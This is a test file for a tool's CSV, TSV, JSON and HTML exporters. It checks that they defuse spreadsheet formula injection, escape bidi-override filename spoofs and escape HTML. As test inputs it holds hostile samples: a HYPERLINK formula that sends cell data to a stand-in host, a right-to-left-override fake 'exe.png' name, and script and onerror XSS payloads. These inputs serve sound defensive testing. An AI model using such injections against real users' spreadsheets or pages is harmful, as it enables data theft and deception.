import { describe, expect, it } from 'vitest';
import { csvCell, escapeHtml, exportText, flattenRows, toCsv, toHtml, toJson, toTsv } from './export.js';
import { isInert } from './inert-text.js';

describe('export', () => {
  it('CSV quotes what needs it and defuses formulas and control characters', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          ['line\nbreak', '42'],
        ],
      ),
    ).toBe('a,b\r\n"x,y","say ""hi"""\r\nline\\nbreak,42\r\n');
    expect(csvCell('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
    // Split at `;` where that is the list separator, an unquoted path would give a formula cell (attack review 12-06).
    expect(csvCell('/tmp/x;=2+5;y')).toBe('"/tmp/x;=2+5;y"');
    expect(csvCell([4242, 4243])).toBe('"4242; 4243"');
    expect(csvCell('-1')).toBe('-1');
    expect(csvCell('+cmd')).toBe("'+cmd");
    expect(csvCell('evil\u001b[2Jname')).toBe('evil\\x1b[2Jname');
    // Tabs and line breaks too, as the grid shows them (a socket's path may hold one): the README's promise.
    expect(csvCell('a\nb\tc\rd<e>')).toBe('a\\nb\\tc\\rd<e>');
    expect(toHtml({ title: 't', columns: ['Path'], rows: [['a\nb']] })).toContain('<td>a\\nb</td>');
  });

  it('writes bidi overrides and invisible characters as escapes, and other names as they are', () => {
    // "\u202egnp.exe" reads as "exe.png" wherever the file is shown; the grid shows it escaped, so does the file.
    const spoof = '\u202egnp.exe';
    expect(csvCell(spoof)).toBe('\\u202egnp.exe');
    expect(csvCell('a\u200bb\u2066c\u061c')).toBe('a\\u200bb\\u2066c\\u061c');
    expect(toTsv(['Process'], [[spoof]])).toBe('Process\n\\u202egnp.exe');
    expect(toHtml({ title: 't', columns: ['Process'], rows: [[spoof]] })).toContain('<td>\\u202egnp.exe</td>');
    for (const name of ['Überwachung.exe', 'élan', '微信', 'تطبيق', 'пример', 'rocket🚀']) {
      expect(csvCell(name)).toBe(name);
      expect(toTsv(['Process'], [[name]])).toBe(`Process\n${name}`);
    }
  });

  it('TSV defuses formulas as CSV does (copied rows are pasted into spreadsheets)', () => {
    const cmd = '=HYPERLINK("http://example.invalid/?"&A1,"update")';
    expect(toTsv(['Command line', 'Process', 'Queue'], [[cmd, '-bash', '-12']])).toBe(
      `Command line\tProcess\tQueue\n'${cmd}\t'-bash\t-12`,
    );
    for (const t of ['+1+1', '@SUM(A1)', '-x']) expect(toTsv(['a'], [[t]])).toBe(`a\n'${t}`);
    // Numbers as the grid writes them stay numbers (Statistics' change column: +1,234).
    for (const t of ['+1,234', '-1,234,567.5', '+12', '-0.5']) expect(toTsv(['a'], [[t]])).toBe(`a\n${t}`);
    expect(toTsv(['a'], [['+1,23']])).toBe("a\n'+1,23");
  });

  it('TSV has a header line and one line per row, a tab or line break in a cell an escape as in the grid', () => {
    expect(
      toTsv(
        ['Proto', 'Process'],
        [
          ['tcp', 'a\tb'],
          ['udp', 'c\nd'],
        ],
      ),
    ).toBe('Proto\tProcess\ntcp\ta\\tb\nudp\tc\\nd');
  });

  it('values: numbers as plain digits (never defused), lists joined, none an empty cell; JSON keeps their types', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[-1e-7, null, [1, 2], '-x']])).toBe(`a,b,c,d\r\n-1e-7,,"1; 2",'-x\r\n`);
    expect(toTsv(['n'], [[1234567]])).toBe('n\n1234567');
    const t = {
      title: 't',
      columns: ['Sent'],
      rows: [['1.2 MiB']],
      data: { columns: ['Sent (bytes)'], rows: [[1234567]] },
    };
    expect(JSON.parse(toJson(t))).toEqual([{ 'Sent (bytes)': 1234567 }]);
    expect(exportText('csv', t)).toBe('Sent (bytes)\r\n1234567\r\n');
    expect(exportText('html', t)).toContain('<td>1.2 MiB</td>');
  });

  it('JSON keys each row by the column headers', () => {
    expect(JSON.parse(toJson({ title: 't', columns: ['Proto', 'PID'], rows: [['tcp', '1']] }))).toEqual([
      { Proto: 'tcp', PID: '1' },
    ]);
  });

  it('JSON writes bidi overrides and invisible characters as \\u escapes: the same strings, shown inert', () => {
    const names = ['\u202egnp.exe', 'a\u2028b', 'c\u009bd', 'e\u200bf', 'x\u001by', '微信 😀'];
    const json = toJson({ title: 't', columns: ['Process'], rows: names.map((n) => [n]) });
    expect(json).toContain('"\\u202egnp.exe"');
    expect(isInert(json.replaceAll('\n', ''))).toBe(true);
    expect(JSON.parse(json)).toEqual(names.map((n) => ({ Process: n })));
  });

  it('the HTML report escapes every text and loads nothing', () => {
    const html = toHtml({
      title: '<script>alert(1)</script>',
      columns: ['A"'],
      rows: [['<img src=x onerror=alert(1)>']],
      notes: ['Filter: a&b'],
    });
    expect(html).not.toMatch(/<script|<img/);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('Filter: a&amp;b');
    expect(html).toContain("default-src 'none'");
    expect(escapeHtml(`'"`)).toBe('&#39;&quot;');
    expect(toHtml({ title: 't', columns: ['Name', 'PID'], rows: [['a', '1']], rightAligned: [false, true] })).toContain(
      '<td>a</td><td class="r">1</td>',
    );
  });

  it('flattens typed rows to columns', () => {
    const flat = flattenRows([
      { id: 'a', counters: { rx: 1, tx: 2 }, flags: ['UP', 'RUNNING'], processes: [{ pid: 1, name: 'x' }], gone: null },
    ]);
    expect(flat.columns).toEqual(['id', 'counters.rx', 'counters.tx', 'flags', 'processes', 'gone']);
    expect(flat.rows[0]).toEqual(['a', '1', '2', 'UP; RUNNING', '[{"pid":1,"name":"x"}]', '']);
  });
});
